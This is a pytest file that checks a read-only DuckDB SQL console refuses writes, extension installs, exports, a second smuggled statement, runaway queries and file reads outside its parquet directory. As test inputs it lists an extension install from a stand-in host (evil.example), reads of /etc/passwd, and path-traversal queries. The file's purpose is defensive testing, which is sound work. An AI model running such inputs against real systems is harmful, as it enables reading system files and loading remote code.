"""The SQL console (``rankscope sql``, collector.data.catalog.run_readonly_query) reads the
catalog and nothing else: statements that write, load, attach, configure or export
are refused by type; table functions that would read files outside D/parquet are
refused by DuckDB's allowed_directories; a runaway query is stopped by the time
limit, and results are capped. (tests/integration/data/test_catalog.py covers the basics:
INSERT, CREATE, DROP, COPY, ATTACH, INSTALL, SET, two statements.)

Split by tier: what needs processes, sockets or seconds is in tests/integration/data/test_sql_readonly.py."""

from __future__ import annotations

import time

import pytest

from collector.data import catalog


@pytest.fixture
def data(tmp_path):
    d = tmp_path / "data"
    catalog.ensure_catalog(d)
    (tmp_path / "outside.parquet").write_bytes(b"PAR1")
    return d


REFUSED_BY_TYPE = [
    ("LOAD httpfs", "LOAD statement"),
    ("INSTALL 'https://evil.example/x.duckdb_extension'", "an INSTALL statement"),
    ("PRAGMA database_list", "PRAGMA statement"),
    ("EXPORT DATABASE '/tmp/rankscope-export'", "EXPORT statement"),
    ("UPDATE runs SET name = 'x'", "UPDATE statement"),
    ("DELETE FROM runs", "DELETE statement"),
    ("CREATE VIEW v AS SELECT 1", "CREATE statement"),
    ("CALL pragma_version()", "CALL statement"),
    ("CHECKPOINT", "statement"),
    ("DETACH memory", "DETACH statement"),
    ("USE system", "SET statement"),
    ("RESET allowed_directories", "statement"),
    ("SELECT 1; COPY (SELECT 1) TO '/tmp/x.csv'", "exactly one SQL statement"),
]
REFUSED_FILES = [
    "SELECT * FROM read_csv('/etc/passwd')",
    "SELECT * FROM read_csv_auto('/etc/passwd')",
    "SELECT * FROM read_text('/etc/passwd')",
    "SELECT * FROM read_blob('/etc/hostname')",
    "SELECT * FROM glob('/etc/*')",
    "SELECT * FROM sniff_csv('/etc/passwd')",
    "SELECT * FROM read_json('/etc/passwd')",
    "SELECT * FROM '/etc/passwd'",
    "SELECT * FROM read_parquet('{outside}')",
    "SELECT * FROM read_parquet('{data}/parquet/../../outside.parquet')",
    "SELECT * FROM read_parquet(['{data}/parquet/comm/run=@schema/schema.parquet', '{outside}'])",
    "SELECT * FROM parquet_metadata('{outside}')",
]


@pytest.mark.parametrize("sql, says", REFUSED_BY_TYPE)
def test_statements_other_than_queries_are_refused_by_type(data, sql, says):
    with pytest.raises(catalog.QueryError) as info:
        catalog.run_readonly_query(data, sql)
    assert says in str(info.value)


@pytest.mark.parametrize("template", REFUSED_FILES)
def test_files_outside_the_parquet_dir_are_refused(data, tmp_path, template):
    sql = template.format(data=data, outside=tmp_path / "outside.parquet")
    with pytest.raises(catalog.QueryError) as info:
        catalog.run_readonly_query(data, sql)
    message = str(info.value)
    # a bare path is not even looked up as a file (replacement scans need external access)
    assert any(w in message for w in ("Permission Error", "disabled", "does not exist")), message
    assert "root:" not in message


def test_settings_cannot_be_changed_from_inside_a_query(data):
    # lock_configuration: even a SELECT cannot widen what it may read
    with pytest.raises(catalog.QueryError):
        catalog.run_readonly_query(data, "SELECT set_config('enable_external_access', 'true')")
    row = catalog.run_readonly_query(data, "SELECT current_setting('enable_external_access') AS v")
    assert row["v"][0].as_py() is False


def test_the_catalog_itself_is_readable_but_not_its_files_by_path(data):
    # The views read Arrow datasets opened in Python; DuckDB itself may open no file, even in D.
    assert catalog.run_readonly_query(data, "SELECT count(*) AS n FROM comm")["n"][0].as_py() == 0
    with pytest.raises(catalog.QueryError, match="disabled by configuration"):
        catalog.run_readonly_query(data, f"SELECT count(*) FROM read_parquet('{data}/parquet/comm/*/*.parquet')")


def test_a_runaway_query_is_stopped_by_the_time_limit(data):
    started = time.monotonic()
    with pytest.raises(catalog.QueryError, match="time limit"):
        catalog.run_readonly_query(
            data,
            "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r) SELECT count(*) FROM r",
            timeout_s=0.5,
        )
    # bounded: the interrupt arrived (the query itself never ends); generous for a loaded 2-core box
    assert time.monotonic() - started < 60
    # the limit is per query: the next one runs normally
    assert catalog.run_readonly_query(data, "SELECT 42 AS x", timeout_s=0.5)["x"][0].as_py() == 42


def test_row_limit_caps_the_result(data):
    assert catalog.run_readonly_query(data, "SELECT * FROM range(1000000)", max_rows=10).num_rows == 10


def test_duckdbs_spill_directory_under_the_cwd_is_not_readable(data, tmp_path, monkeypatch):
    # DuckDB allows its temp_directory (<cwd>/.tmp by default) even with external access off
    monkeypatch.chdir(tmp_path)
    (tmp_path / ".tmp").mkdir()
    (tmp_path / ".tmp" / "leak.csv").write_text("secret,1\n")
    with pytest.raises(catalog.QueryError, match="Permission Error"):
        catalog.run_readonly_query(data, f"SELECT * FROM read_csv('{tmp_path}/.tmp/leak.csv')")
    assert (
        catalog.run_readonly_query(data, "SELECT count(*) AS n FROM (SELECT * FROM range(300000) ORDER BY random())")[
            "n"
        ][0].as_py()
        == 300000
    )
